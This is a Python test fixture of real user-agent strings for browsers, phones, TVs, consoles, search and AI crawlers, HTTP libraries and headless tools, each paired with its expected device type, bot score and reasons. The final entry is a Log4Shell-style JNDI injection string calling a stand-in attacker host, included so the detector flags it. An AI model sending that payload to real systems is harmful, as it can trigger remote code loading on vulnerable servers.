"""Real user agents, with the device and the bot score that they must get."""

# ruff: noqa: E501 - user agents are as long as they are
from __future__ import annotations

from dataclasses import dataclass

CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"
WEBKIT = "AppleWebKit/605.1.15 (KHTML, like Gecko)"


@dataclass(frozen=True)
class Agent:
    """device: (device_type, browser, os). reasons: None when nothing speaks for a bot."""

    name: str
    text: str
    device: tuple[str, str | None, str | None]
    score: int = 0
    reasons: str | None = None


AGENTS = [
    Agent(
        "Chrome on Windows",
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36",
        ("desktop", "Chrome", "Windows"),
    ),
    Agent(
        "Edge on Windows",
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36 Edg/131.0.0.0",
        ("desktop", "Edge", "Windows"),
    ),
    Agent(
        "Opera on Windows",
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36 OPR/116.0.0.0",
        ("desktop", "Opera", "Windows"),
    ),
    Agent(
        "Safari on a Mac",
        f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {WEBKIT} Version/18.1 Safari/605.1.15",
        ("desktop", "Safari", "macOS"),
    ),
    Agent(
        "Firefox on Linux",
        "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
        ("desktop", "Firefox", "Linux"),
    ),
    Agent(
        "Firefox on Ubuntu",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        ("desktop", "Firefox", "Ubuntu"),
    ),
    Agent(
        "Chromebook",
        f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {CHROME} Safari/537.36",
        ("desktop", "Chrome", "Chrome OS"),
    ),
    Agent(
        "Internet Explorer 11",
        "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
        ("desktop", "IE", "Windows"),
    ),
    Agent(
        "iPhone",
        f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) {WEBKIT} Version/18.1 Mobile/15E148 Safari/604.1",
        ("mobile", "Safari", "iOS"),
    ),
    Agent(
        "Chrome on an iPhone",
        f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) {WEBKIT} CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
        ("mobile", "Chrome", "iOS"),
    ),
    Agent(
        "Instagram on an iPhone",
        f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) {WEBKIT} Mobile/15E148 Instagram 340.0.3.27.97",
        ("mobile", "Instagram", "iOS"),
    ),
    Agent(
        "Facebook on an iPhone",
        f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) {WEBKIT} Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.41]",
        ("mobile", "Facebook", "iOS"),
    ),
    Agent(
        "iPad",
        f"Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) {WEBKIT} Version/17.5 Mobile/15E148 Safari/604.1",
        ("tablet", "Safari", "iOS"),
    ),
    Agent(
        "Galaxy phone",
        f"Mozilla/5.0 (Linux; Android 14; SM-S921B) {CHROME} Mobile Safari/537.36",
        ("mobile", "Chrome", "Android"),
    ),
    Agent(
        "Android with reduced agent",
        f"Mozilla/5.0 (Linux; Android 10; K) {CHROME} Mobile Safari/537.36",
        ("mobile", "Chrome", "Android"),
    ),
    Agent(
        "Samsung Internet",
        "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
        ("mobile", "Samsung Internet", "Android"),
    ),
    Agent(
        "Firefox on Android",
        "Mozilla/5.0 (Android 14; Mobile; rv:132.0) Gecko/132.0 Firefox/132.0",
        ("mobile", "Firefox", "Android"),
    ),
    Agent(
        "WebView",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.81 Mobile Safari/537.36",
        ("mobile", "Android WebView", "Android"),
    ),
    Agent(
        "phone whose maker is called a bot",
        f"Mozilla/5.0 (Linux; Android 12; CUBOT NOTE 20) {CHROME} Mobile Safari/537.36",
        ("mobile", "Chrome", "Android"),
    ),
    Agent(
        "Opera Mini",
        "Opera/9.80 (Android; Opera Mini/75.0.2254/191.303; U; en) Presto/2.12.423 Version/12.16",
        ("mobile", "Opera Mini", "Android"),
    ),
    Agent(
        "KaiOS",
        "Mozilla/5.0 (Mobile; LYF/F300B; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
        ("mobile", "Firefox", "KaiOS"),
    ),
    Agent(
        "Galaxy tablet",
        f"Mozilla/5.0 (Linux; Android 13; SM-X706B) {CHROME} Safari/537.36",
        ("tablet", "Chrome", "Android"),
    ),
    Agent(
        "Android tablet with reduced agent",
        f"Mozilla/5.0 (Linux; Android 10; K) {CHROME} Safari/537.36",
        ("tablet", "Chrome", "Android"),
    ),
    Agent(
        "Fire tablet",
        "Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/120.4.1 like Chrome/120.0.6099.231 Safari/537.36",
        ("tablet", "Amazon Silk", "Android"),
    ),
    Agent(
        "Tizen television",
        "Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
        ("tv", "Safari", "Tizen"),
    ),
    Agent(
        "webOS television",
        f"Mozilla/5.0 (Web0S; Linux/SmartTV) {CHROME} Safari/537.36 WebAppManager",
        ("tv", "Chrome", "webOS"),
    ),
    Agent(
        "PlayStation",
        f"Mozilla/5.0 (PlayStation; PlayStation 5/7.00) {WEBKIT} Version/15.4 Safari/605.1.15",
        ("console", "Safari", None),
    ),
    Agent(
        "Xbox",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Edge/44.18363.8131",
        ("console", "Edge", "Windows"),
    ),
    Agent("app of one's own", "MyShop/1.2 (iPhone; iOS 17.5; Scale/3.00)", ("mobile", "Safari (in-app)", "iOS")),
    Agent(
        "Googlebot",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ("other", "Googlebot", None),
        100,
        "declared_crawler",
    ),
    Agent(
        "Googlebot as a phone",
        f"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) {CHROME} Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ("mobile", "Googlebot", "Android"),
        100,
        "declared_crawler",
    ),
    Agent(
        "GPTBot",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        ("other", "GPTBot", None),
        100,
        "ai_crawler",
    ),
    Agent(
        "ClaudeBot",
        "Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
        ("other", "ClaudeBot", None),
        100,
        "ai_crawler",
    ),
    Agent(
        "an AI assistant on behalf of a user",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)",
        ("other", None, None),
        100,
        "ai_crawler",
    ),
    Agent(
        "bingbot",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        ("other", "bingbot", None),
        100,
        "declared_crawler",
    ),
    Agent(
        "link preview",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        ("other", "FacebookBot", None),
        100,
        "declared_crawler",
    ),
    Agent(
        "Pingdom",
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        ("other", "PingdomBot", None),
        100,
        "declared_crawler",
    ),
    Agent(
        "headless Chrome",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
        ("desktop", "HeadlessChrome", "Linux"),
        90,
        "headless",
    ),
    Agent(
        "PhantomJS",
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
        ("desktop", "PhantomJS", "Linux"),
        90,
        "headless",
    ),
    Agent(
        "Selenium",
        "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/115.0 Selenium/4.1",
        ("desktop", "Firefox", "Linux"),
        90,
        "automation",
    ),
    Agent("curl", "curl/8.5.0", ("other", "curl", None), 80, "http_library"),
    Agent("requests", "python-requests/2.32.3", ("other", "Python Requests", None), 80, "http_library"),
    Agent("Go", "Go-http-client/2.0", ("other", "Go-http-client", None), 80, "http_library"),
    Agent("axios", "axios/1.7.7", ("other", "axios", None), 80, "http_library"),
    Agent("Node", "node", ("other", None, None), 80, "http_library,short_user_agent"),
    Agent("OkHttp", "okhttp/4.12.0", ("other", "okhttp", None), 80, "http_library"),
    Agent(
        "Internet Explorer 6",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
        ("desktop", "IE", "Windows"),
        60,
        "old_browser",
    ),
    Agent(
        "Chrome 28",
        "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/28.0.1500.72 Safari/537.36",
        ("desktop", "Chrome", "Windows"),
        60,
        "old_browser",
    ),
    Agent("nothing but Mozilla", "Mozilla/5.0", ("other", None, None), 60, "short_user_agent"),
    Agent("a hyphen", "-", ("other", None, None), 60, "short_user_agent"),
    Agent("attack", "${jndi:ldap://evil.example/a}", ("other", None, None), 90, "injection"),
]
